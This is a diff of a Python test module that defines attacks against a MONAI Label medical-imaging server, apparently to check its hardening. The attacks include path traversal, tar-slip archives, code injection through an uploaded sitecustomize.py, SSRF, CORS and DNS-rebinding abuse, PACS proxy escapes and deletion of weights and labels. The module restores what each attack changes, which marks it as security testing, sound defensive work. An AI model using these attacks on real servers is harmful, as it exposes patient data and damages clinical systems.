@@ -1,7 +1,7 @@
-"""Attacks on a MONAI Label server: each a function that tries one, and says by its effect whether it succeeded.
+"""Attacks on a MONAI Label server: each is a function that tries one and returns whether it had its effect.
 
-``ATTACKS`` lists them and ``tried`` makes one of them. What an attack is tried on is a ``Target``: a server, and where
-on this machine its effects would be seen. Attacks put back what they have broken, so that the next one can be tried.
+``ATTACKS`` lists them and ``try_attack`` runs one. A ``Target`` describes the attacked server and the files on this
+machine in which effects are visible. Attacks restore what they have changed, so that the next one can be tried.
 """
 
 from __future__ import annotations
@@ -27,13 +27,13 @@ from urllib.parse import quote, urlencode
 import requests
 
 SECRET_SHAPE = (19, 23, 29)
-"""Voxels (I, J, K) of the image that no server was given: an answer of this shape was made from it."""
+"""Shape (I, J, K) of the secret image, which no server serves: an answer of this shape was made from it."""
 
 EVIL = "http://evil.example"
 
 
 class Site(Enum):
-    """What the server must serve for an attack to make sense."""
+    """What a server must serve for an attack to be possible."""
 
     FOLDER = "a folder of studies"
     PACS = "a PACS"
@@ -42,23 +42,26 @@ class Site(Enum):
 
 @dataclass
 class Target:
-    """A server and what is known of it.
+    """An attacked server.
 
     Attributes:
-        address: of the server, without a slash at its end.
-        images: folder where it keeps images: the studies, or what it fetched of a PACS.
-        outside: another folder, which is none of its business; it holds ``secret.nii.gz``, as ``write_volume`` makes
-            it, and a folder ``secret`` beside with a file in it.
-        weights: file of the model's.
-        image, other_image: names of two images of the studies; the second has a final label.
-        model, other_model: names of two models, whose answers differ.
-        click: params that the first model wants.
-        token: of somebody who may do everything, or "" where nobody has to sign in.
-        annotator: of somebody who may only annotate, or "".
-        replies: to what the attacks sent.
-        users: tokens by name, where users sign in: ``admin``, ``trainer``, ``annotator`` and ``other``, an annotator.
-        folder: holds everything that the server writes; below it ``adapters``, ``studies`` and ``server.log``.
-        process_id: of the server.
+        address: URL of the server, without a slash at its end.
+        images: folder with the images of the server: the studies, or the cache of a PACS.
+        outside: a folder that the server must not access; it holds ``secret.nii.gz``, see ``write_volume``, and a
+            folder ``secret`` with a file in it.
+        weights: file of the model's weights.
+        image: name of an image of the studies.
+        other_image: name of another image of the studies, which has a final label.
+        model: name of a model.
+        other_model: name of another model, whose answers differ.
+        click: params that the first model requires.
+        token: token of an admin, or "" if the server has no users.
+        annotator: token of an annotator, or "".
+        replies: replies to the requests of the attacks.
+        users: tokens by user name, if users sign in: ``admin``, ``trainer``, ``annotator`` and ``other``, who is an
+            annotator.
+        folder: holds everything that the server writes: ``adapters``, ``studies`` and ``server.log``.
+        process_id: id of the server's process.
     """
 
     address: str
@@ -77,32 +80,36 @@ class Target:
     folder: Path = Path()
     process_id: int = 0
 
-    def ask(self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object) -> requests.Response:
-        """Send what belongs to an attack; dots and escapes of the path stay as they are."""
-        self.replies.append(self.look(method, path, query, **sent))
+    def request(
+        self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object
+    ) -> requests.Response:
+        """Send a request of an attack and record the reply; dots and escapes in the path are sent unchanged."""
+        self.replies.append(self.inspect(method, path, query, **sent))
         return self.replies[-1]
 
-    def look(self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object) -> requests.Response:
-        """Send what anybody may, to see what an attack has done. ``token`` is another one than the target's."""
+    def inspect(
+        self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object
+    ) -> requests.Response:
+        """Send a legitimate request, to see the effect of an attack; ``token`` replaces the target's token."""
         token = sent.pop("token", self.token)
         headers = {**({"Authorization": f"Bearer {token}"} if token else {}), **sent.pop("headers", {})}  # type: ignore[dict-item]
-        ready = requests.Request(method, self.address, headers=headers, **sent).prepare()  # type: ignore[arg-type]
-        ready.url = f"{self.address}{path}" + (f"?{urlencode(query)}" if query else "")
+        prepared = requests.Request(method, self.address, headers=headers, **sent).prepare()  # type: ignore[arg-type]
+        prepared.url = f"{self.address}{path}" + (f"?{urlencode(query)}" if query else "")
         with requests.Session() as session:
-            return session.send(ready, timeout=120, allow_redirects=False)
+            return session.send(prepared, timeout=120, allow_redirects=False)
 
     def infer(self, query: Mapping[str, str], **params: object) -> requests.Response:
-        """Have the first model answer, with an NRRD file that is not packed."""
-        asked = {**self.click, "result_extension": ".nrrd", "result_compress": False, **params}
+        """Request a mask from the first model, as an uncompressed NRRD file."""
+        params = {**self.click, "result_extension": ".nrrd", "result_compress": False, **params}
         sent = {"output": "image", **query}
-        return self.ask("POST", f"/infer/{self.model}", sent, data={"params": json.dumps(asked)})
+        return self.request("POST", f"/infer/{self.model}", sent, data={"params": json.dumps(params)})
 
     @property
     def secret(self) -> Path:
         return self.outside / "secret.nii.gz"
 
     def has_outside(self, content: bytes) -> bool:
-        """Whether a file with this content lies outside."""
+        """Check whether the outside folder has a file with this content."""
         return any(file.is_file() and file.read_bytes() == content for file in self.outside.rglob("*"))
 
 
@@ -111,29 +118,29 @@ class Attack:
     """An attack.
 
     Attributes:
-        name: of its function.
-        does: what it does, a sentence.
-        site: what it needs.
-        attempt: the function.
-        not_on_stock: why it does not succeed on MONAI Label 0.8.5 as it comes, or "" where it does.
-        passed_over: whether a good server does not refuse it, but answers as if it had not been said.
+        name: name of the function.
+        description: a sentence that describes the attack.
+        site: the kind of server that it needs.
+        attempt: the function, which returns whether the attack succeeded.
+        not_on_stock: why it fails on an unmodified MONAI Label 0.8.5, or "" if it succeeds there.
+        silently_ignored: whether a safe server ignores the malicious part of the request instead of refusing it.
     """
 
     name: str
-    does: str
+    description: str
     site: Site
     attempt: Callable[[Target], bool]
     not_on_stock: str = ""
-    passed_over: bool = False
+    silently_ignored: bool = False
 
 
 @dataclass(frozen=True)
 class Result:
-    """What became of an attack.
+    """The result of an attack.
 
     Attributes:
-        succeeded: whether its effect was seen.
-        replies: of the server, to what it sent.
+        succeeded: whether the attack had its effect.
+        replies: the server's replies.
     """
 
     succeeded: bool
@@ -143,34 +150,34 @@ class Result:
 ATTACKS: list[Attack] = []
 
 
-def tried(attack: Attack, target: Target) -> Result:
-    """Make an attack."""
+def try_attack(attack: Attack, target: Target) -> Result:
+    """Run an attack."""
     target.replies.clear()
     return Result(attack.attempt(target), tuple(target.replies))
 
 
 def attack(
-    site: Site, not_on_stock: str = "", passed_over: bool = False
+    site: Site, not_on_stock: str = "", silently_ignored: bool = False
 ) -> Callable[[Callable[[Target], bool]], Callable[[Target], bool]]:
-    def listed(attempt: Callable[[Target], bool]) -> Callable[[Target], bool]:
-        does = (attempt.__doc__ or "").partition("\n")[0]
-        ATTACKS.append(Attack(attempt.__name__, does, site, attempt, not_on_stock, passed_over))
+    def register(attempt: Callable[[Target], bool]) -> Callable[[Target], bool]:
+        description = (attempt.__doc__ or "").partition("\n")[0]
+        ATTACKS.append(Attack(attempt.__name__, description, site, attempt, not_on_stock, silently_ignored))
         return attempt
 
-    return listed
+    return register
 
 
-# What is written where it must not be.
+# Files are written where they must not be.
 
 
 @attack(Site.FOLDER)
 def image_outside(target: Target) -> bool:
     """Upload an image under a name that leads out of the studies."""
     content = _new_content()
-    place = target.outside / _new_name()
+    target_path = target.outside / _new_name()
     for path in ("/datastore/image", "/datastore/"):
-        for name in (os.path.relpath(place, target.images), str(place)):
-            target.ask("PUT", path, {"image": name}, files={"file": ("x.nii.gz", content)})
+        for name in (os.path.relpath(target_path, target.images), str(target_path)):
+            target.request("PUT", path, {"image": name}, files={"file": ("x.nii.gz", content)})
     return target.has_outside(content)
 
 
@@ -178,109 +185,109 @@ def image_outside(target: Target) -> bool:
 def label_outside(target: Target) -> bool:
     """Upload a label with a tag that leads out of the studies."""
     content = _new_content()
-    place = target.outside / _new_name()
-    for tag in (os.path.relpath(place, target.images / "labels" / "final"), str(place)):
+    target_path = target.outside / _new_name()
+    for tag in (os.path.relpath(target_path, target.images / "labels" / "final"), str(target_path)):
         query = {"image": target.image, "tag": tag}
-        target.ask("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
+        target.request("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
     return target.has_outside(content)
 
 
 @attack(Site.FOLDER)
 def archive_outside(target: Target) -> bool:
-    """Open a session with an archive whose files leave the folder that it is unpacked into."""
+    """Open a session with an archive whose files lead out of the folder in which it is extracted."""
     content = _new_content()
-    place = target.outside / _new_name()
+    target_path = target.outside / _new_name()
     packed = io.BytesIO()
     with tarfile.open(fileobj=packed, mode="w") as archive:
-        for name in (str(place), "../" * 12 + str(place)[1:]):
+        for name in (str(target_path), "../" * 12 + str(target_path)[1:]):
             member = tarfile.TarInfo(name)
             member.size = len(content)
             archive.addfile(member, io.BytesIO(content))
     for yes in ("true", "on", "1"):
-        target.ask("PUT", "/session/", {"uncompress": yes}, files={"files": ("x.tar", packed.getvalue())})
+        target.request("PUT", "/session/", {"uncompress": yes}, files={"files": ("x.tar", packed.getvalue())})
     return target.has_outside(content)
 
 
-@attack(Site.FOLDER, passed_over=True)
+@attack(Site.FOLDER, silently_ignored=True)
 def answer_outside(target: Target) -> bool:
-    """Have an answer saved as a label, with a tag that leads out of the studies."""
-    place = target.outside / _new_name()
-    for tag in (os.path.relpath(place, target.images / "labels"), str(place)):
+    """Have a mask saved as a label with a tag that leads out of the studies."""
+    target_path = target.outside / _new_name()
+    for tag in (os.path.relpath(target_path, target.images / "labels"), str(target_path)):
         target.infer({"image": target.image}, save_label=True, label_tag=tag)
         target.infer({"image": target.image}, label_tag=tag, image_id=tag)
-    return place.exists()
+    return target_path.exists()
 
 
 @attack(
     Site.FOLDER,
-    not_on_stock="The extension follows a random name, so it begins in a folder that is not there.",
-    passed_over=True,
+    not_on_stock="The extension follows a random name, so that the path begins in a folder that does not exist.",
+    silently_ignored=True,
 )
 def extension_outside(target: Target) -> bool:
-    """Have an answer written to a file whose extension leads elsewhere."""
-    place = target.outside / f"{_new_name()}.nrrd"
-    target.infer({"image": target.image}, result_extension="/../" + os.path.relpath(place, "/tmp"))  # noqa: S108
-    return place.exists()
+    """Have a mask written to a file whose extension leads to another folder."""
+    target_path = target.outside / f"{_new_name()}.nrrd"
+    target.infer({"image": target.image}, result_extension="/../" + os.path.relpath(target_path, "/tmp"))  # noqa: S108
+    return target_path.exists()
 
 
 @attack(Site.FOLDER)
 def code_through_training(target: Target) -> bool:
-    """Upload a program as an image, and have the training's process load it."""
+    """Upload Python code as an image, and have the training's process import it."""
     name = _new_name()
     program = target.images / "sitecustomize.py"
     code = f"open({str(target.outside / name)!r}, 'w').close()\n".encode()
-    target.ask("PUT", "/datastore/image", {"image": program.stem}, files={"file": ("x.py", code)})
-    if not program.exists():  # Refused; whether the training would load it is still to be seen.
+    target.request("PUT", "/datastore/image", {"image": program.stem}, files={"file": ("x.py", code)})
+    if not program.exists():  # The upload was refused; check whether the training would import the file.
         program.write_bytes(code)
-    reply = target.ask("POST", f"/train/{target.model}", json={"bundle_path": str(target.images)})
-    done = reply.ok and _within(30, (target.outside / name).exists)
+    reply = target.request("POST", f"/train/{target.model}", json={"bundle_path": str(target.images)})
+    succeeded = reply.ok and _wait_until(30, (target.outside / name).exists)
     _stop_training(target, reply)
     program.unlink()
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
 def folder_removed(target: Target) -> bool:
-    """Have a folder taken for a session that has lost its image, which is then removed."""
-    prey = target.outside / _new_name()
-    prey.mkdir()
-    (prey / "images").write_bytes(b"somebody's")
-    said = json.dumps({"name": "x", "path": "x", "image": "/nowhere", "meta": {}}).encode()
-    query = {"image": os.path.relpath(prey / "meta", target.images)}
-    target.ask("PUT", "/datastore/image", query, files={"file": ("x.info", said)})
-    if not (prey / "meta.info").exists():
-        (prey / "meta.info").write_bytes(said)
-    target.infer({"session_id": str(prey)})
-    target.ask("DELETE", f"/session/{quote(str(prey), safe='')}")
-    done = not prey.exists()
-    shutil.rmtree(prey, ignore_errors=True)
-    return done
+    """Have a folder mistaken for a session without its image, so that the server removes it."""
+    victim = target.outside / _new_name()
+    victim.mkdir()
+    (victim / "images").write_bytes(b"somebody's")
+    content = json.dumps({"name": "x", "path": "x", "image": "/nowhere", "meta": {}}).encode()
+    query = {"image": os.path.relpath(victim / "meta", target.images)}
+    target.request("PUT", "/datastore/image", query, files={"file": ("x.info", content)})
+    if not (victim / "meta.info").exists():
+        (victim / "meta.info").write_bytes(content)
+    target.infer({"session_id": str(victim)})
+    target.request("DELETE", f"/session/{quote(str(victim), safe='')}")
+    succeeded = not victim.exists()
+    shutil.rmtree(victim, ignore_errors=True)
+    return succeeded
 
 
-# What is read that must not be.
+# Data is read that must not be.
 
 
 @attack(Site.FOLDER)
 def infer_on_a_path(target: Target) -> bool:
-    """Have a file segmented that is no image of the studies, by its path."""
+    """Segment a file outside the studies, by its path."""
     paths = (str(target.secret), os.path.relpath(target.secret, target.images), f"file://{target.secret}")
     return any(_is_of_secret(target.infer({"image": path})) for path in paths)
 
 
-@attack(Site.FOLDER, passed_over=True)
+@attack(Site.FOLDER, silently_ignored=True)
 def params_name_another_image(target: Target) -> bool:
-    """Ask about one image, and name the path of another in the params."""
+    """Request a mask of one image, and give the path of another in the params."""
     secret = str(target.secret)
     return any(_is_of_secret(target.infer({"image": target.image}, image=named)) for named in (secret, [secret]))
 
 
-@attack(Site.FOLDER, passed_over=True)
+@attack(Site.FOLDER, silently_ignored=True)
 def params_name_another_model(target: Target) -> bool:
-    """Ask one model, and name another in the params."""
+    """Send a request to one model, and name another in the params."""
 
     def answered(model: str, params: Mapping[str, object]) -> tuple[object, ...]:
-        said = {"params": json.dumps({**target.click, **params})}
-        reply = target.ask("POST", f"/infer/{model}", {"image": target.image, "output": "json"}, data=said)
+        data = {"params": json.dumps({**target.click, **params})}
+        reply = target.request("POST", f"/infer/{model}", {"image": target.image, "output": "json"}, data=data)
         content = reply.json() if reply.ok else {}
         return reply.ok, sorted(content), content.get("label_names")
 
@@ -289,22 +296,24 @@ def params_name_another_model(target: Target) -> bool:
 
 
 @attack(
-    Site.FOLDER, not_on_stock="The store of a folder looks names up in its list, which only those have that it took."
+    Site.FOLDER,
+    not_on_stock="The datastore of a folder finds names only in its list, which holds only files that it added itself.",
 )
 def image_by_path(target: Target) -> bool:
-    """Fetch a file that is no image of the studies, by its path."""
-    return _fetched(target, "image", {})
+    """Fetch a file outside the studies as an image, by its path."""
+    return _fetches_secret(target, "image", {})
 
 
 @attack(
-    Site.FOLDER, not_on_stock="The store of a folder looks names up in its list, which only those have that it took."
+    Site.FOLDER,
+    not_on_stock="The datastore of a folder finds names only in its list, which holds only files that it added itself.",
 )
 def label_by_path(target: Target) -> bool:
-    """Fetch a file that is no label of the studies, by its path or by its tag's."""
+    """Fetch a file outside the studies as a label, by its path or by its tag."""
     where = os.path.relpath(target.outside, target.images / "labels")
-    with_tags = (_fetched(target, "label", {"tag": tag}) for tag in ("final", where, str(target.outside)))
+    with_tags = (_fetches_secret(target, "label", {"tag": tag}) for tag in ("final", where, str(target.outside)))
     by_tag = (
-        _is_secret(target, target.ask("GET", "/datastore/label", {"label": "secret", "tag": tag}))
+        _is_secret(target, target.request("GET", "/datastore/label", {"label": "secret", "tag": tag}))
         for tag in (where, str(target.outside))
     )
     return any([*with_tags, *by_tag])
@@ -312,91 +321,91 @@ def label_by_path(target: Target) -> bool:
 
 @attack(Site.PACS)
 def image_of_another_cache(target: Target) -> bool:
-    """Fetch an image that the server did not fetch from its PACS, by its path."""
-    return _fetched(target, "image", {})
+    """Fetch an image that does not come from the server's PACS, by its path."""
+    return _fetches_secret(target, "image", {})
 
 
-@attack(Site.FOLDER, not_on_stock="A slip: slashes of the path become colons. The other pages are a library's.")
+@attack(Site.FOLDER, not_on_stock="By accident: slashes of the path become colons. A library serves the other pages.")
 def file_through_the_pages(target: Target) -> bool:
-    """Fetch a file from where the viewers' pages are fetched."""
+    """Fetch a file by a path below the viewers' pages."""
     steps = ("..%2f", "%2e%2e/", "..%252f", "..%5c", "../")
     paths = [f"{page}/{step * 12}{str(target.secret)[1:]}" for page in ("/ohif", "/static") for step in steps]
     paths += [f"/ohif/{quote(str(target.secret), safe='')}", f"/static/{target.secret}"]
-    return any(_is_secret(target, target.ask("GET", path)) for path in paths)
+    return any(_is_secret(target, target.request("GET", path)) for path in paths)
 
 
 @attack(Site.FOLDER)
 def weights_taken(target: Target) -> bool:
-    """Carry the model's weights away."""
-    return target.ask("GET", f"/model/{target.model}").content == target.weights.read_bytes()
+    """Download the model's weights."""
+    return target.request("GET", f"/model/{target.model}").content == target.weights.read_bytes()
 
 
 @attack(Site.FOLDER)
 def logs_read(target: Target) -> bool:
-    """Read the server's log, which names images."""
-    replies = [target.ask("GET", path, {"text": "true"}) for path in ("/logs/", "/logs")]
+    """Read the server's log, which contains image names."""
+    replies = [target.request("GET", path, {"text": "true"}) for path in ("/logs/", "/logs")]
     return any(reply.ok and target.image in reply.text for reply in replies)
 
 
-@attack(Site.FOLDER, not_on_stock="The readers of images open files and no addresses.")
+@attack(Site.FOLDER, not_on_stock="The image readers open files only, not URLs.")
 def server_asks_an_address(target: Target) -> bool:
-    """Have the server fetch an image from an address that only it may reach."""
-    with _listening() as (address, heard):
+    """Have the server fetch an image from an address that only the server can reach."""
+    with _recording_server() as (address, paths):
         image = f"{address}/x.nii.gz"
         target.infer({"image": image})
-        target.ask("GET", "/datastore/image", {"image": image})
+        target.request("GET", "/datastore/image", {"image": image})
         target.infer({"session_id": image})
-        return bool(heard)
+        return bool(paths)
 
 
-# What is changed or removed that must not be.
+# Files are changed or removed that must not be.
 
 
 @attack(Site.FOLDER)
 def weights_replaced(target: Target) -> bool:
     """Replace the model's weights."""
     before, content = target.weights.read_bytes(), _new_content()
-    target.ask("PUT", f"/model/{target.model}", files={"file": (target.weights.name, content)})
-    done = target.weights.read_bytes() == content
+    target.request("PUT", f"/model/{target.model}", files={"file": (target.weights.name, content)})
+    succeeded = target.weights.read_bytes() == content
     target.weights.write_bytes(before)
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
 def weights_removed(target: Target) -> bool:
     """Remove the model's weights."""
-    return _removed(target, target.weights, f"/model/{target.model}", {})
+    return _removes(target, target.weights, f"/model/{target.model}", {})
 
 
 @attack(Site.FOLDER)
 def label_replaced_by_junk(target: Target) -> bool:
-    """Upload what is no label in place of one."""
+    """Replace a label by random bytes."""
     before, content = _label(target).read_bytes(), _new_content()
     query = {"image": target.other_image, "tag": "final"}
-    target.ask("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
-    done = _label(target).read_bytes() == content
-    if done:
+    target.request("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
+    succeeded = _label(target).read_bytes() == content
+    if succeeded:
         _label(target).write_bytes(before)
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
 def label_removed(target: Target) -> bool:
     """Remove a label."""
-    return _removed(target, _label(target), "/datastore/label", {"id": target.other_image, "tag": "final"})
+    return _removes(target, _label(target), "/datastore/label", {"id": target.other_image, "tag": "final"})
 
 
 @attack(Site.FOLDER)
 def image_replaced(target: Target) -> bool:
-    """Upload other voxels under the name of an image that is there."""
+    """Upload another image under the name of an existing one."""
     file = target.images / f"{target.other_image}.nii.gz"
     before = file.read_bytes()
     sent = {"file": ("x.nii.gz", target.secret.read_bytes())}
-    target.ask("PUT", "/datastore/image", {"image": target.other_image}, files=sent)
-    done = file.read_bytes() != before
-    if done:
+    target.request("PUT", "/datastore/image", {"image": target.other_image}, files=sent)
+    succeeded = file.read_bytes() != before
+    if succeeded:
         file.write_bytes(before)
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
@@ -404,55 +413,55 @@ def image_removed(target: Target) -> bool:
     """Remove an image of the studies."""
     label = _label(target).read_bytes()
     file = target.images / f"{target.other_image}.nii.gz"
-    done = _removed(target, file, "/datastore/image", {"id": target.other_image})
+    succeeded = _removes(target, file, "/datastore/image", {"id": target.other_image})
     if not _label(target).exists():
         _label(target).write_bytes(label)
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
 def reload_without_a_role(target: Target) -> bool:
-    """Have the application dropped, and built anew at the next request."""
-    return target.ask("POST", "/reload").ok
+    """Have the server discard the application and build it again at the next request."""
+    return target.request("POST", "/reload").ok
 
 
-# What pages of the web make a browser do.
+# Web pages of another origin make a browser send requests.
 
 
 @attack(Site.FOLDER)
 def foreign_page_reads(target: Target) -> bool:
-    """Have a browser show a page of another origin what the server answers, with the user's credentials."""
+    """Have a page of another origin read the server's answers with the user's credentials."""
     return any(
-        _lets_in(target.ask("GET", "/datastore/", {"output": "all"}, headers={"Origin": origin}), origin)
+        _allows_origin(target.request("GET", "/datastore/", {"output": "all"}, headers={"Origin": origin}), origin)
         for origin in (EVIL, "null")
     )
 
 
 @attack(Site.FOLDER)
 def foreign_page_may_remove(target: Target) -> bool:
-    """Ask, as browsers do for a page of another origin, whether it may remove images."""
+    """Send the preflight request of a page of another origin that wants to remove images."""
     headers = {"Origin": EVIL, "Access-Control-Request-Method": "DELETE"}
-    return _lets_in(target.ask("OPTIONS", "/datastore/image", {"id": target.image}, headers=headers), EVIL)
+    return _allows_origin(target.request("OPTIONS", "/datastore/image", {"id": target.image}, headers=headers), EVIL)
 
 
 @attack(Site.FOLDER)
 def foreign_page_starts_training(target: Target) -> bool:
-    """Start a training from a page of another origin; browsers do not ask for leave to send such a form."""
-    reply = target.ask("POST", f"/train/{target.model}", headers={"Origin": EVIL, "Content-Type": "text/plain"})
-    done = reply.ok and target.look("GET", "/train/").ok
+    """Start a training from a page of another origin, with a form that browsers send without a preflight request."""
+    reply = target.request("POST", f"/train/{target.model}", headers={"Origin": EVIL, "Content-Type": "text/plain"})
+    succeeded = reply.ok and target.inspect("GET", "/train/").ok
     _stop_training(target, reply)
-    return done
+    return succeeded
 
 
 @attack(Site.FOLDER)
 def name_that_means_this_machine(target: Target) -> bool:
-    """Read from a page whose own name was made to mean this machine (DNS rebinding), so that its origin is the same."""
+    """Read from a page whose host name now resolves to this machine (DNS rebinding), so that its origin is the same."""
     headers = {"Host": "evil.example:8000", "Origin": f"{EVIL}:8000"}
-    reply = target.ask("GET", "/datastore/", {"output": "all"}, headers=headers, token="")
+    reply = target.request("GET", "/datastore/", {"output": "all"}, headers=headers, token="")
     return reply.ok and target.image in reply.text
 
 
-# The PACS behind the server, and who may do what.
+# Attacks on the PACS behind the server, and on roles.
 
 
 _OUT_OF_DICOMWEB = ("..%2f", "%2e%2e/", "../", "studies/..%2f..%2f", "..%252f", "studies/%2e%2e/%2e%2e/")
@@ -460,57 +469,57 @@ _OUT_OF_DICOMWEB = ("..%2f", "%2e%2e/", "../", "studies/..%2f..%2f", "..%252f", 
 
 @attack(Site.PACS)
 def pacs_own_api(target: Target) -> bool:
-    """Ask for the PACS's own API through the way to its DICOMweb."""
+    """Reach the PACS's own API through the DICOMweb proxy."""
     paths = [
         f"/proxy/dicom/{kind}{step}system" for kind in ("", "wado/", "qido/", "stow/") for step in _OUT_OF_DICOMWEB
     ]
-    return any("DicomAet" in target.ask("GET", path).text for path in paths)
+    return any("DicomAet" in target.request("GET", path).text for path in paths)
 
 
 @attack(Site.PACS)
 def pacs_own_api_by_post(target: Target) -> bool:
-    """List all patients with the PACS's own API, which needs a POST."""
-    said = json.dumps({"Level": "Patient", "Query": {}}).encode()
+    """List all patients through the PACS's own API, by a POST request."""
+    content = json.dumps({"Level": "Patient", "Query": {}}).encode()
     paths = [f"/proxy/dicom/{kind}{step}tools/find" for kind in ("", "stow/") for step in _OUT_OF_DICOMWEB]
-    return any(_is_list(target.ask("POST", path, data=said)) for path in paths)
+    return any(_is_list(target.request("POST", path, data=content)) for path in paths)
 
 
 @attack(Site.PACS)
 def pacs_other_servers(target: Target) -> bool:
-    """Reach the part of the PACS's DICOMweb that sends images to other hospitals."""
-    return any(_is_list(target.ask("GET", f"/proxy/dicom/{kind}servers")) for kind in ("", "wado/", "qido/"))
+    """Reach the part of the PACS's DICOMweb that forwards images to other servers."""
+    return any(_is_list(target.request("GET", f"/proxy/dicom/{kind}servers")) for kind in ("", "wado/", "qido/"))
 
 
 @attack(Site.PACS)
 def without_signing_in(target: Target) -> bool:
-    """Read the PACS's list of patients without a login."""
+    """List the PACS's studies without signing in."""
     paths = ("/proxy/dicom/studies", "/proxy/dicom/qido/studies")
-    return any(_is_list(target.ask("GET", path, token="")) for path in paths)
+    return any(_is_list(target.request("GET", path, token="")) for path in paths)
 
 
 @attack(Site.PACS)
 def training_without_a_role(target: Target) -> bool:
-    """Start a training as one who may only annotate, and as nobody."""
-    done = False
+    """Start a training as an annotator, and without a token."""
+    succeeded = False
     for token in (target.annotator, ""):
-        reply = target.ask("POST", f"/train/{target.model}", json={}, token=token)
-        done = done or reply.ok
+        reply = target.request("POST", f"/train/{target.model}", json={}, token=token)
+        succeeded = succeeded or reply.ok
         _stop_training(target, reply)
-    return done
+    return succeeded
 
 
 def write_volume(path: Path) -> None:
-    """Write the image that no server was given, as NIfTI: (I, J, K) = ``SECRET_SHAPE``, 1 mm, in RAS."""
+    """Write the secret image as NIfTI: (I, J, K) = ``SECRET_SHAPE``, 1 mm, in RAS."""
     header = bytearray(352)
     struct.pack_into("<i", header, 0, 348)
     struct.pack_into("<8h", header, 40, 3, *SECRET_SHAPE, 1, 1, 1, 1)
-    struct.pack_into("<2h", header, 70, 4, 16)  # Whole numbers of 16 bits.
+    struct.pack_into("<2h", header, 70, 4, 16)  # 16-bit integers.
     struct.pack_into("<8f", header, 76, 1, 1, 1, 1, 1, 1, 1, 1)
     struct.pack_into("<f", header, 108, 352)
     struct.pack_into("<2f", header, 112, 1, 0)
     struct.pack_into("<2h", header, 252, 0, 1)
-    for row, place in enumerate((280, 296, 312)):
-        struct.pack_into("<4f", header, place, *(float(row == column) for column in range(3)), 0)
+    for row, offset in enumerate((280, 296, 312)):
+        struct.pack_into("<4f", header, offset, *(float(row == column) for column in range(3)), 0)
     header[344:348] = b"n+1\0"
     voxels = SECRET_SHAPE[0] * SECRET_SHAPE[1] * SECRET_SHAPE[2]
     path.write_bytes(gzip.compress(bytes(header) + struct.pack(f"<{voxels}h", *(n % 200 for n in range(voxels)))))
@@ -533,14 +542,14 @@ def _is_secret(target: Target, reply: requests.Response) -> bool:
 
 
 def _is_of_secret(reply: requests.Response) -> bool:
-    """Whether an answer is a mask of the image that no server was given, as NRRD."""
+    """Check whether an answer is a mask of the secret image, as NRRD."""
     return b"sizes: %d %d %d\n" % SECRET_SHAPE in reply.content[:1000]
 
 
-def _fetched(target: Target, what: str, query: Mapping[str, str]) -> bool:
-    place = target.outside / "secret"
-    names = [str(place), os.path.relpath(place, target.images), str(target.secret)]
-    return any(_is_secret(target, target.ask("GET", f"/datastore/{what}", {what: name, **query})) for name in names)
+def _fetches_secret(target: Target, what: str, query: Mapping[str, str]) -> bool:
+    target_path = target.outside / "secret"
+    names = [str(target_path), os.path.relpath(target_path, target.images), str(target.secret)]
+    return any(_is_secret(target, target.request("GET", f"/datastore/{what}", {what: name, **query})) for name in names)
 
 
 def _is_list(reply: requests.Response) -> bool:
@@ -550,23 +559,23 @@ def _is_list(reply: requests.Response) -> bool:
         return False
 
 
-def _lets_in(reply: requests.Response, origin: str) -> bool:
+def _allows_origin(reply: requests.Response, origin: str) -> bool:
     allowed = reply.headers.get("Access-Control-Allow-Origin")
     return allowed == origin and reply.headers.get("Access-Control-Allow-Credentials") == "true"
 
 
-def _removed(target: Target, file: Path, path: str, query: Mapping[str, str]) -> bool:
+def _removes(target: Target, file: Path, path: str, query: Mapping[str, str]) -> bool:
     before = file.read_bytes()
-    target.ask("DELETE", path, query)
-    done = not file.exists()
-    if done:
+    target.request("DELETE", path, query)
+    succeeded = not file.exists()
+    if succeeded:
         file.write_bytes(before)
-    return done
+    return succeeded
 
 
-def _within(seconds: float, happens: Callable[[], bool]) -> bool:
+def _wait_until(seconds: float, condition: Callable[[], bool]) -> bool:
     end = time.monotonic() + seconds
-    while not happens():
+    while not condition():
         if time.monotonic() > end:
             return False
         time.sleep(0.25)
@@ -574,19 +583,19 @@ def _within(seconds: float, happens: Callable[[], bool]) -> bool:
 
 
 def _stop_training(target: Target, started: requests.Response) -> None:
-    """End a training that an attack has started; it cannot be stopped in its first moments."""
+    """Stop a training that an attack has started; retries, because it cannot be stopped right after its start."""
     if started.ok:
-        _within(30, lambda: target.look("DELETE", "/train/").ok)
+        _wait_until(30, lambda: target.inspect("DELETE", "/train/").ok)
 
 
 @contextmanager
-def _listening() -> Iterator[tuple[str, list[str]]]:
-    """A server on this machine; its address, and the paths that it is asked for."""
-    heard: list[str] = []
+def _recording_server() -> Iterator[tuple[str, list[str]]]:
+    """Run a server on this machine; yields its address and the paths that are requested."""
+    paths: list[str] = []
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            heard.append(self.path)
+            paths.append(self.path)
             self.send_error(404)
 
         def log_message(self, *_: object) -> None:
@@ -596,7 +605,7 @@ def _listening() -> Iterator[tuple[str, list[str]]]:
     thread = Thread(target=server.serve_forever)
     thread.start()
     try:
-        yield f"http://127.0.0.1:{server.server_port}", heard
+        yield f"http://127.0.0.1:{server.server_port}", paths
     finally:
         server.shutdown()
         thread.join()
